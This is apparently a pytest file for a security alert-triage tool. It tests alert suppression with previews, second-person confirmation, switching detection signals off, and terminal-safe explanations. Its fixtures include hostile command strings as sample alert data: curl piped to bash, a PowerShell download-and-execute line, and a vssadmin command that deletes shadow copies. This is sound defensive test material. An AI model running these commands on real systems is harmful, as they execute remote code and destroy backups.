"""`vyrox triage`: suppressions, switched-off signals, explanations and the sample (contract 56)."""

import json
from pathlib import Path

import pytest

from tests.cli import Vyrox, refused, succeeded
from tests.triage.samples import alert
from vyrox.alerts.intake import delivery, store
from vyrox.cli.explain import explained_lines
from vyrox.cli.suppress_text import preview_lines
from vyrox.clock import wall_clock
from vyrox.models import NormalizedAlert
from vyrox.triage.explaining import explain
from vyrox.triage.judging import is_sampled, store_verdicts
from vyrox.triage.memory import read_memory
from vyrox.triage.preview import Example, Preview
from vyrox.triage.score import judge

TENANT = "acme"
DOWNLOAD = "curl -fsSL http://203.0.113.7/agent-{}.sh | bash"
SHADOWS = "vssadmin delete shadows /all /quiet"


pytestmark = pytest.mark.usefixtures("anyio_backend")


def known(vyrox: Vyrox) -> Vyrox:
    """Return the command, with the tenant in its database."""
    succeeded(vyrox("tenant", "add", TENANT, "--vendor", "crowdstrike"))
    return vyrox


@pytest.fixture
def vyrox(data_dir: Path, database_url: str | None) -> Vyrox:
    return known(Vyrox(data_dir, database_url))


@pytest.fixture
def on_sqlite(data_dir: Path) -> Vyrox:
    return known(Vyrox(data_dir))


def arrive(vyrox: Vyrox, name: str, command: str, **members: object) -> NormalizedAlert:
    """Store an alert and its verdict, as the worker does."""
    now = wall_clock()
    values = {"id": name, "tenant_id": TENANT, "timestamp": now, **members}
    found = alert(command, **values)
    vyrox.write(store, [delivery(found, name.encode(), now)], 86_400)
    memory = vyrox.write(read_memory, TENANT, now)
    verdict = memory.suppressed(found, judge(found, disabled=memory.disabled))
    vyrox.write(store_verdicts, TENANT, [(found, verdict)], now)
    return found


def explained(vyrox: Vyrox, alert_id: str) -> dict[str, object]:
    found: dict[str, object] = json.loads(succeeded(vyrox("triage", "explain", alert_id, "--json")))
    return found


def test_an_alert_that_is_normal_is_suppressed_after_a_preview_contract_56(vyrox: Vyrox) -> None:
    arrive(vyrox, "a-1", DOWNLOAD.format(1))
    finished = vyrox("alert", "finish", "a-1", "--verdict", "benign", "--by", "ann")
    [offer] = [line for line in finished.stderr.splitlines() if line.startswith("If it is normal")]
    command = offer.partition(": ")[2].replace("REASON", "our-agent").split()[1:]

    declined = vyrox(*command, "--by", "ann", stdin=b"n\n")
    assert declined.exit_code == 1
    assert "it would hide 1 alert:" in declined.stdout
    assert "a-1" in declined.stdout
    assert json.loads(succeeded(vyrox("triage", "suppressed", "--json"))) == []
    shown = json.loads(succeeded(vyrox(*command, "--preview", "--json")))
    assert shown["preview"]["alerts"] == 1

    made = succeeded(vyrox(*command, "--by", "ann", stdin=b"y\n")).splitlines()[-1].split()[-1]
    arrive(vyrox, "a-2", DOWNLOAD.format(2))
    found = explained(vyrox, "a-2")
    assert (found["band"], found["own_band"]) == ("close", "review")
    [listed] = json.loads(succeeded(vyrox("triage", "suppressed", TENANT, "--json")))
    assert (listed["id"], listed["state"], listed["hits"]) == (made, "active", 1)
    table = succeeded(vyrox("triage", "suppressed"))
    assert "curl -fssl http://203.0.113.7/agent-#.s" in table
    assert "our-agent" in table
    assert "a-2" in succeeded(vyrox("triage", "suppressed", "--alerts", made))

    assert "alerts hidden: 1" in succeeded(vyrox("triage", "unsuppress", made, "--by", "bob"))
    arrive(vyrox, "a-3", DOWNLOAD.format(3))
    assert explained(vyrox, "a-3")["band"] == "review"
    assert json.loads(succeeded(vyrox("triage", "suppressed", "--json"))) == []
    [ended] = json.loads(succeeded(vyrox("triage", "suppressed", "--all", "--json")))
    assert (ended["state"], ended["end_reason"]) == ("ended", "a person ended it")


def test_a_malicious_verdict_ends_the_suppression_and_says_so_contract_56(
    on_sqlite: Vyrox,
) -> None:
    arrive(on_sqlite, "a-1", DOWNLOAD.format(1))
    suppress = ("triage", "suppress", TENANT, "--like", "a-1", "--reason", "x", "--yes")
    succeeded(on_sqlite(*suppress))
    finished = on_sqlite("alert", "finish", "a-1", "--verdict", "malicious")
    assert "ended: it would hide such alerts" in finished.stderr
    again = on_sqlite(*suppress)
    assert again.exit_code == 1
    assert "a person found alert a-1 malicious" in again.stderr


def test_a_second_person_confirms_what_is_dangerous_contract_56(on_sqlite: Vyrox) -> None:
    arrive(on_sqlite, "a-1", SHADOWS)
    made = json.loads(
        succeeded(
            on_sqlite(
                *("triage", "suppress", TENANT, "--like", "a-1", "--reason", "before backup"),
                *("--by", "ann", "--yes", "--json"),
            )
        )
    )["suppression"]
    assert made["state"] == "unconfirmed"
    confirm = ("triage", "confirm", made["id"], "--yes")
    same = on_sqlite(*confirm, "--by", "Ann")
    assert same.exit_code == 1
    assert "a second person must confirm it" in same.stderr
    assert same.stdout == ""  # refused before anything is asked
    shown = succeeded(on_sqlite(*confirm, "--by", "bob"))
    assert "before backup" in shown
    assert "vssadmin delete shadows" in shown
    arrive(on_sqlite, "a-2", SHADOWS)
    assert explained(on_sqlite, "a-2")["band"] == "close"
    assert "it is active" in refused(on_sqlite(*confirm, "--by", "eve"))
    end = ("triage", "unsuppress", made["id"])
    assert " ended, alerts hidden: 1" in succeeded(on_sqlite(*end))
    assert " ended already, alerts hidden: 1" in succeeded(on_sqlite(*end))


@pytest.mark.parametrize(
    ("args", "error"),
    [
        (("triage", "suppress", "acmee", "--program", "x", "--any-host"), "acmee is not onboarded"),
        (("triage", "suppress", TENANT, "--program", "x"), "name a host with --host"),
        (("triage", "suppress", TENANT, "--like", "a-9"), "there is no alert a-9"),
        (("triage", "suppress", TENANT, "--family", "recover", "--any-host"), "mean recovery?"),
        (("triage", "unsuppress", "sup-1"), "there is no suppression sup-1"),
        (("triage", "confirm", "sup-\u00e9"), "there is no suppression"),
        (("triage", "explain", "a-9"), "there is no alert a-9"),
        (("triage", "disable", "lsas.dump", "--tenant", TENANT), "there is no signal lsas.dump"),
    ],
)
def test_mistakes_are_one_line_contract_56(
    on_sqlite: Vyrox, args: tuple[str, ...], error: str
) -> None:
    arrive(on_sqlite, "a-1", DOWNLOAD.format(1))
    more = ("--reason", "x", "--yes") if args[1] == "suppress" else ()
    assert error in refused(on_sqlite(*args, *more))


def test_a_signal_is_switched_off_and_on_contract_56(on_sqlite: Vyrox) -> None:
    name = "recovery.shadows_deleted"
    on_tenant = ("--tenant", TENANT, "--by", "ann")
    off = ("triage", "disable", name, *on_tenant)
    assert "--second" in refused(on_sqlite(*off))
    assert "another than the first" in refused(on_sqlite(*off, "--second", "Ann"))
    assert "is off for acme\n" in succeeded(on_sqlite(*off, "--second", "bob"))
    assert "already" in succeeded(on_sqlite(*off, "--second", "bob"))
    listed = json.loads(succeeded(on_sqlite("triage", "signals", "--tenant", TENANT, "--json")))
    assert [each["signal"] for each in listed if each["off"]] == [name]
    table = succeeded(on_sqlite("triage", "signals", "--tenant", TENANT)).splitlines()
    assert [line.split()[-1] for line in table if line.startswith(f"{name}\t")] == ["ann"]
    enabled = succeeded(on_sqlite("triage", "enable", name, *on_tenant, "--json"))
    assert json.loads(enabled) == {
        "tenant_id": TENANT,
        "signal": name,
        "state": "on",
        "changed": True,
    }
    kinds = succeeded(on_sqlite("audit", "events", "--tenant", TENANT))
    assert "signal.disabled" in kinds
    assert "signal.enabled" in kinds


def test_the_sample_is_shown_and_reviewed_contract_56(on_sqlite: Vyrox) -> None:
    sampled = next(f"s-{n}" for n in range(1000) if is_sampled(f"s-{n}"))
    other = next(f"s-{n}" for n in range(1000) if not is_sampled(f"s-{n}"))
    arrive(on_sqlite, sampled, "whoami\x1b[31m /all")
    arrive(on_sqlite, other, "whoami /all")
    shown = on_sqlite("triage", "review", TENANT)
    assert sampled in shown.stdout
    assert other not in shown.stdout
    assert "\x1b" not in shown.stdout
    assert "1 wait for a verdict" in shown.stderr
    succeeded(on_sqlite("alert", "finish", sampled, "--verdict", "malicious"))
    after = on_sqlite("triage", "review")
    assert after.stdout == ""
    assert "triage missed them: 1" in after.stderr
    assert json.loads(succeeded(on_sqlite("triage", "review", "--json")))["malicious"] == 1


@pytest.mark.parametrize("width", [50, 80])
def test_an_explanation_fits_the_terminal_and_has_every_reason_contract_53(
    on_sqlite: Vyrox, width: int
) -> None:
    command = f"powershell -nop -w hidden iwr http://203.0.113.9/{'x' * 200}.ps1 | iex; {SHADOWS}"
    arrive(on_sqlite, "a-1", command, vendor_severity="HIGH", hostname="\x1b[2J" + "h" * 90)
    found = on_sqlite.write(explain, "a-1")
    lines = list(explained_lines(found, width))
    assert max(map(len, lines)) <= width
    assert all(line.isprintable() for line in lines)
    text = "\n".join(lines)
    reasons = judge(alert(command, vendor_severity="HIGH")).reasons
    assert all(reason.signal in text for reason in reasons)
    assert text.index("recovery ") < text.index("vendor ")
    assert found.rules in text
    printed = succeeded(on_sqlite("triage", "explain", "a-1"))
    assert "recovery.shadows_deleted" in printed


@pytest.mark.parametrize("width", [50, 80])
def test_a_preview_fits_the_terminal_contract_56(width: int) -> None:
    example = Example("id-1", 0.0, 93.4, "urgent", "h" * 90, None, "\u202e\x1b[31m" * 90)
    found = Preview(
        alerts=9, raised=9, hosts=9, host_names=["h" * 90], highest=93.4, examples=[example]
    )
    lines = list(preview_lines(found, width))
    assert max(map(len, lines)) <= width
    assert all(line.isprintable() for line in lines)
